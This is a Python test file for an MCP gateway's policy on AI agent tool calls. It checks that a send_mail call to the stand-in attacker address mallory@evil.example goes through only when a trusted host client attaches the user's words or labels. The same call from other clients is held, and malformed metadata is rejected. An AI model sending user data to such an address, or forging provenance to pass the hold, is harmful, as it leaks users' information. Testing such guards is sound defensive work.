"""What a host may say of its user where the operator lets it, and what nobody else can."""

import sys

import pytest

from symbi.policy.library import BASE, GATEWAY
from symbi.testing.mcp_gateway import open_gateway

pytestmark = pytest.mark.anyio
SHIPPED = "\n".join([BASE.text, *(source.text for source in GATEWAY.values())])
MALLORY = {"to": "mallory@evil.example", "subject": "s", "body": "b"}


async def test_words_and_labels_of_a_host_count_where_the_operator_says_so(tmp_path, root):
    servers = root / "tests" / "data" / "servers"
    config = f"""
[gateway]
wait_s = 0
[mcp]
tool_verification = "tofu"
[mcp.servers.desk]
command = ["{sys.executable}", "{servers / "desk.py"}"]
manifest = "{servers / "desk.toml"}"
[mcp.clients.host]
labels = true
"""
    words = {"symbi/words": "please write to mallory@evil.example"}
    opening = open_gateway(tmp_path, config=config, policies=SHIPPED, agents="agent a { with { 1 } }")
    async with opening as one, one.client("host") as host, one.client() as other:
        for client in (host, other):
            await client.call_tool("desk__read_mail", {})
        assert not (await host.call_tool("desk__send_mail", MALLORY, meta=words)).is_error
        held = await other.call_tool("desk__send_mail", MALLORY, meta=words)
        assert held.meta["symbi/error"]["kind"] == "held"
        said = {"symbi/words": "", "symbi/labels": {"to": "user"}}
        assert not (await host.call_tool("desk__send_mail", MALLORY | {"subject": "t"}, meta=said)).is_error
        for bad in ({"symbi/labels": {"to": "holy"}}, {"symbi/labels": 5}, {"symbi/words": 5}):
            wrong = await host.call_tool("desk__send_mail", MALLORY, meta=bad)
            assert wrong.meta["symbi/error"]["code"] == "mcp.meta"
